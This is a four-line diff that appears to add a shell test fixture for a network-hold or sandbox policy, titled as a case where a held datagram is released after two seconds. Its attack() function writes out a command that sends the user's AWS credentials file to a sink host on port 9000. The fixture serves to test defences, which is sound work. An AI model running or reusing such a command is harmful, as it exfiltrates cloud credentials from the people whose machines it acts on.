@@ -1,0 +1,4 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="a held datagram, allowed after two seconds, goes on at once"
+FORM=hold
+attack() { "$PROVOKE/datagram" sendto "$HOME/.aws/credentials" "$SINK4" 9000; sleep 3; }
